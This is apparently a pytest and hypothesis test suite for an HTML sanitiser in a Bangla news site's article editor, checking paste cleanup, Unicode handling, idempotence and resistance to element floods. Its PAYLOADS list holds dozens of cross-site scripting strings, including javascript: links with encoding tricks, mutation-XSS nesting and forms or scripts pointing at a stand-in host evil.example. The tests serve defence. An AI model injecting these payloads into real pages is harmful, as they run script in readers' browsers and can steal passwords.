"""articles/body.py: what a story's body may contain, whatever was pasted, imported or forged."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from articles.body import ALLOWED, EXTENSIONS, plain_text, sanitise
from articles.tests.factories import story

VOID = {"br", "hr"}


class Elements(HTMLParser):
    """Every element, attribute, comment and declaration a browser would meet."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found, self.other = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def is_harmless(html):
    """Whether the HTML holds elements and attributes of ALLOWED only, and links a reader may follow."""
    page = Elements(html)
    for tag, attributes in page.found:
        attributes.pop("rel", None)
        if tag not in ALLOWED or not set(attributes) <= ALLOWED[tag]:
            return False
        scheme, colon, _rest = attributes.get("href", "").partition(":")
        if (
            colon
            and scheme.isascii()
            and scheme.isalpha()
            and scheme not in {"http", "https", "mailto"}
        ):
            return False
    return page.other == []


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<p onclick=alert(1)>ক</p>",
    "<p style='background:url(javascript:alert(1))'>ক</p>",
    "<p id=location class=x name=y data-x=1>ক</p>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>ক</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>ক</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<style>@import '//evil.example'</style><link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>ক</button></form>",
    "<a href=javascript:alert(1)>ক</a>",
    "<a href=' &#14; javascript:alert(1)'>ক</a>",
    "<a href='java\tscript:alert(1)'>ক</a>",
    "<a href='java&#x200b;script:alert(1)'>ক</a>",
    "<a href='java&#xfeff;script:alert(1)'>ক</a>",
    "<a href='java&#x202e;script:alert(1)'>ক</a>",
    "<a href='java&#0;script:alert(1)'>ক</a>",
    "<a href='&#106;avascript&colon;alert(1)'>ক</a>",
    "<a href='vbscript:x'>ক</a><a href='data:text/html,<script>alert(1)</script>'>ক</a>",
    "<a href='x' target=_blank ping=//evil.example download onfocus=alert(1) autofocus>ক</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "<textarea></textarea><script>alert(1)</script><title></title>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><caption><svg><title><style><!--</style><img src=x onerror=alert(1)>",
    "<p>&#824; onmouseover=alert(1) ক</p>",
    "<a href='x'>&#824; onmouseover=alert(1) ক</a>",
    "<p\u0338 onmouseover=alert(1)>ক</p>",
    "<!-- <p>ক</p> --><!DOCTYPE html><?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte mso 9]><xml><o:x/></xml><![endif]-->",
    "<b<script>alert(1)</script>><i onclick=alert(1)>ক</i>",
    "<ol start=javascript:alert(1)><li>ক</li></ol><table><tr><td colspan='9e9'>ক</td></tr></table>",
    "<p>\x00<scr\x00ipt>alert(1)</script></p>",
    "<p>ক",
    "</p></div></body>ক",
    "<<p>>ক<</p>>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_payloads_leave_nothing_a_browser_would_run(payload):
    cleaned = sanitise(payload)

    assert is_harmless(cleaned)
    assert sanitise(cleaned) == cleaned


pieces = st.sampled_from(
    [*(f"<{tag}>" for tag in ALLOWED), *(f"</{tag}>" for tag in ALLOWED), *PAYLOADS]
    + [
        '<figure data-picture="7">',
        '<figure data-gallery="">',
        '<figure data-embed="https://youtu.be/aqz-KE-bpKQ">',
        '<blockquote data-pull="">',
        '<aside data-facts="">',
        '<aside data-story="7">',
        "<svg>",
        "<math>",
        "<style>",
        "</style>",
        "<!--",
        "-->",
        "<select>",
        "<b",
        "<i ",
        '">',
        "'",
        "&#8203;",
        "&#824;",
    ]
)


@given(st.lists(pieces | st.text(max_size=8), max_size=12).map("".join))
@example("<li><tr><p><br><p></h2></div><select><table></div></style><li>")
@example("<blockquote>--><td><a href='x'>&lt;\u0338<table><a href='x'></p></table>")
def test_only_the_allowed_elements_survive_and_cleaning_twice_changes_nothing(html):
    cleaned = sanitise(html)

    assert is_harmless(cleaned)
    assert sanitise(cleaned) == cleaned


@given(st.text())
def test_any_text_can_be_cleaned(text):
    assert is_harmless(sanitise(text))


EVERYTHING = (
    "<h2>উপশিরোনাম</h2><p>এক <strong>দুই</strong> <em>তিন</em> H<sub>2</sub>O ১০<sup>৩</sup><br>চার</p>"
    '<ul><li>ক</li></ul><ol start="3"><li>খ</li></ol><blockquote><p>গ</p></blockquote><hr><h3>ঘ</h3>'
    '<p><a href="https://example.org/" rel="noopener">ঙ</a></p>'
    '<table><thead><tr><th colspan="2">চ</th></tr></thead><tbody><tr><td rowspan="2">ছ</td></tr></tbody></table>'
    '<figure data-alt="জ" data-credit="ঝ" data-picture="7"><figcaption>ঞ <em>ট</em></figcaption></figure>'
    '<figure data-embed="https://www.youtube.com/watch?v=aqz-KE-bpKQ"></figure>'
    '<figure data-gallery=""><figure data-picture="7"></figure><figure data-picture="8"></figure><figcaption>ঠ</figcaption></figure>'
    '<blockquote data-pull=""><p>ড</p><p>ঢ <em>ণ</em></p><cite>ত থ</cite></blockquote>'
    '<aside data-facts=""><h2>দ</h2><p>ধ</p><ul><li>ন</li></ul><ol start="2"><li><p>প</p></li></ol></aside>'
    '<aside data-story="12"></aside>'
)


def test_all_the_editor_can_write_stays_as_it_is():
    assert sanitise(EVERYTHING) == EVERYTHING
    assert {tag for tag, _ in Elements(EVERYTHING).found} == set(ALLOWED)


def test_the_editor_offers_no_protocol_that_the_sanitiser_would_refuse():
    for protocol in EXTENSIONS["Link"]["protocols"]:
        link = f'<a href="{protocol}:desk@example.org" rel="noopener">ক</a>'
        assert sanitise(link) == link


def test_a_link_to_the_paper_itself_is_stored_as_a_path(settings):
    settings.SITE_URL = "https://paper.example"
    typed = '<p><a href="https://paper.example/article/12/">ক</a> <a href="https://other.example/">খ</a></p>'

    cleaned = sanitise(typed)

    assert Elements(cleaned).found[1:] == [
        ("a", {"href": "/article/12/", "rel": "noopener"}),
        ("a", {"href": "https://other.example/", "rel": "noopener"}),
    ]
    assert sanitise(cleaned) == cleaned


@pytest.mark.parametrize(
    ("pasted", "kept"),
    [
        ("<p><b>গাঢ়</b> <i>বাঁকা</i></p>", "<p><strong>গাঢ়</strong> <em>বাঁকা</em></p>"),
        ("<P><B class=x>গাঢ়</B><I\n>বাঁকা</I></P>", "<p><strong>গাঢ়</strong><em>বাঁকা</em></p>"),
        (
            '<p class=MsoNormal style="margin:0in"><span lang=BN style="font-family:Vrinda">কথা<o:p></o:p></span></p>',
            "<p>কথা</p>",
        ),
        ("<!--StartFragment--><p>কথা</p><!--EndFragment-->", "<p>কথা</p>"),
        ("<style>p.MsoNormal{margin:0}</style><p>কথা</p>", "<p>কথা</p>"),
        (
            '<b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr"><span style="color:#000">কথা</span></p></b>',
            "<p>কথা</p>",
        ),
        ("<p><font color=red>লাল</font></p>", "<p>লাল</p>"),
        ("<p>ক&nbsp;খ</p>", "<p>ক&nbsp;খ</p>"),
        ("  <p>ক</p>\r\n", "<p>ক</p>"),
    ],
)
def test_what_word_and_google_docs_leave_in_a_paste_goes(pasted, kept):
    assert sanitise(pasted) == kept


@pytest.mark.parametrize(
    "nothing",
    ["", " \n ", "<p></p>", "<p>&nbsp;</p><p><br></p>", "<p><strong></strong></p>", "<h2> </h2><ul><li></li></ul>",
     "<!-- ক -->", "<script>ক</script>", "<img src=x>", "<p>&#8203;</p>"],
)  # fmt: skip
def test_a_body_without_a_word_is_empty(nothing):
    assert sanitise(nothing) == ""


def test_bangla_is_stored_in_canonical_form_and_keeps_its_meant_joiners():
    rab, written_out = "র\u200d্যাব", "র&#8205;্যাব"

    assert sanitise(f"<p>{rab}</p>") == sanitise(f"<p>{written_out}</p>") == f"<p>{rab}</p>"
    assert sanitise("<p>কো\u0000\u202eক\u09c7\u09beনো</p>") == "<p>কোকোনো</p>"
    assert sanitise("<p>&#2453;&#2503;&#2494;&#8238;</p>") == "<p>কো</p>"


@pytest.mark.parametrize(
    "flood",
    ["<div>" * 60_000, "<b " * 60_000, "<" * 120_000, "<<div>div>" * 30_000, "<table><tr><td>" * 20_000,
     "<p>&#824;" * 20_000, "<p> " * 30_000, "<!--" * 60_000, "&#8203;" * 60_000, "<a href=x>" * 30_000],
)  # fmt: skip
def test_a_flood_of_elements_is_cleaned_in_linear_time(flood):
    began = time.process_time()

    cleaned = sanitise(flood + "ক")

    assert time.process_time() - began < 2
    assert is_harmless(cleaned)


def test_what_nests_too_deep_keeps_its_words():
    assert plain_text(sanitise("<blockquote>" * 5_000 + "<p>কথা</p>")) == "কথা"


def test_plain_text_has_the_words_with_a_line_for_each_block():
    html = "<h2>এক</h2><p>দুই &lt;b&gt; ৩ &amp; ৪<br>পাঁচ</p><ul><li>ছয়</li></ul>"

    assert plain_text(html) == "এক\nদুই <b> ৩ & ৪\nপাঁচ\nছয়"
    assert plain_text("&amp;lt;") == "&lt;"
    assert plain_text("") == ""


@pytest.mark.django_db
def test_a_body_that_comes_past_the_form_is_cleaned_by_its_field():
    from articles.models import Article

    article = story()

    Article.objects.filter(pk=article.pk).update(body="<p onclick=x>ক</p><script>১</script>")

    article.refresh_from_db()
    assert article.body == "<p>ক</p>"


@pytest.mark.parametrize(
    "piece", ["&", "&a", "x&y ", "&amp;", "&#38;", "\u00a0", "&lt;b&gt;", "&\u200b"]
)
def test_a_flood_of_references_costs_no_minutes_and_settles(piece):
    started = time.perf_counter()

    once = sanitise("<p>খবর " + piece * (600_000 // len(piece)) + "</p>")

    assert time.perf_counter() - started < 10
    assert (sanitise(once), once.startswith("<p>খবর"), "<b>" in once) == (once, True, False)


def test_as_many_references_as_a_story_may_hold_are_kept():
    body = "<p>" + "ক&amp;খ " * 5_000 + "শেষ</p>"

    assert sanitise(body) == body
